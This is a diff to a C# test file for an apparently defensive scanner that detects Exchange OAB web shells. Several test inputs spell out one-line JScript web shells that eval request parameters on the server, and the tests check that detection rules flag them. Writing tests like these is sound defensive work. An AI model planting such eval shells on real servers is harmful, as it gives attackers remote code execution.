@@ -2,6 +2,7 @@ using System;
 using System.Diagnostics;
 using System.IO;
 using System.Linq;
+using HafniumTools.Configuration;
 using HafniumTools.Files;
 using HafniumTools.Model;
 using Xunit;
@@ -70,19 +71,21 @@ public class WebShellRobustnessTests
     [Fact]
     public void Oab_recogniser_reports_fields_lines_and_server()
     {
-        var dump = OabConfigDump.TryRecognize(File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx")))!;
-        var backup = OabConfigDump.TryRecognize(File.ReadAllText(FileFixtures.Benign("oab-admin-backup.txt")))!;
+        var dump = ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx")))!;
+        var backup = ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Benign("oab-admin-backup.txt")))!;
 
-        Assert.True(dump.CarriesScript);
-        Assert.Equal("ExternalUrl", dump.ScriptField!.Name);
-        Assert.Equal(18, dump.ScriptField.LineNumber);
-        Assert.Equal(["InternalUrl", "ExternalUrl"], dump.UrlFields.Select(f => f.Name));
-        Assert.Equal("EX01", dump.ServerName);
-        Assert.Equal("OAB (Default Web Site)", dump.VirtualDirectoryName);
-        Assert.False(backup.CarriesScript);
-        Assert.Equal("https://mail.contoso.com/OAB", backup.UrlFields.Single(f => f.Name == "ExternalUrl").Value);
-        Assert.Null(OabConfigDump.TryRecognize("ExternalUrl : http://f/<script>\nName : x"));
-        Assert.Null(OabConfigDump.TryRecognize(File.ReadAllText(FileFixtures.Benign("logon.aspx"))));
+        var scriptField = dump.ScriptUrlField(out string? indicator);
+        Assert.NotNull(scriptField);
+        Assert.NotNull(indicator);
+        Assert.Equal("ExternalUrl", scriptField!.Label);
+        Assert.Equal(18, scriptField.LineNumber);
+        Assert.Equal(["InternalUrl", "ExternalUrl"], dump.UrlFields().Select(f => f.Key.Label));
+        Assert.Equal("EX01", dump.Server);
+        Assert.Equal("OAB (Default Web Site)", dump.Name);
+        Assert.Null(backup.ScriptUrlField(out _));
+        Assert.Equal("https://mail.contoso.com/OAB", backup.UrlFields().Single(f => f.Key.Label == "ExternalUrl").Key.Value);
+        Assert.Null(ConfigurationDump.TryParse("ExternalUrl : http://f/<script>\nName : x"));
+        Assert.Null(ConfigurationDump.TryParse(File.ReadAllText(FileFixtures.Benign("logon.aspx"))));
     }
 
     [Theory]
@@ -107,6 +110,34 @@ public class WebShellRobustnessTests
 
         Assert.Contains(findings, f => f.RuleId == "HT-WS-014" && f.LineNumber == 18);
         Assert.DoesNotContain(findings, f => f.Verdict == Verdict.Compromise);
+    }
+
+    [Theory]
+    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\shell.aspx", ".aspx", true)]
+    [InlineData(@"D:\triage\owa.v2\auth\page", "", false)]
+    [InlineData("/mnt/triage/EX01/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.ASPX", ".ASPX", true)]
+    [InlineData(@"/mnt/copy/C:\inetpub\wwwroot\include.stm", ".stm", true)]
+    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\logo.gif", ".gif", false)]
+    public void Page_extension_is_read_from_the_file_name_whatever_the_separator(string path, string extension, bool page)
+    {
+        Assert.Equal(extension, ServerCode.ExtensionOf(path));
+        Assert.Equal(page, ServerCode.IsPageExtension(path));
+    }
+
+    [Theory]
+    [InlineData("http://f/&lt;script language=&quot;JScript&quot; runat=&quot;server&quot;&gt;function Page_Load(){eval(Request[&quot;k&quot;],&quot;unsafe&quot;);}&lt;/script&gt;", "HT-WS-014")]
+    [InlineData("http://f/<script language=\"JScript\" runat = 'server'>function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>", "HT-WS-008")]
+    [InlineData("http://f/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>", "HT-WS-008")]
+    public void Oab_dump_is_a_working_shell_only_when_its_url_holds_code_asp_net_runs(string externalUrl, string ruleId)
+    {
+        string dump = File.ReadAllText(FileFixtures.Shell("oab-dump-shell.aspx"))
+            .Replace("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", externalUrl, StringComparison.Ordinal);
+
+        var findings = new WebShellScanner().Classify("/triage/FrontEnd/HttpProxy/owa/auth/x.aspx", dump);
+
+        var hit = Assert.Single(findings, f => f.RuleId is "HT-WS-008" or "HT-WS-014");
+        Assert.Equal(ruleId, hit.RuleId);
+        Assert.Equal(18, hit.LineNumber);
     }
 
     [Fact]
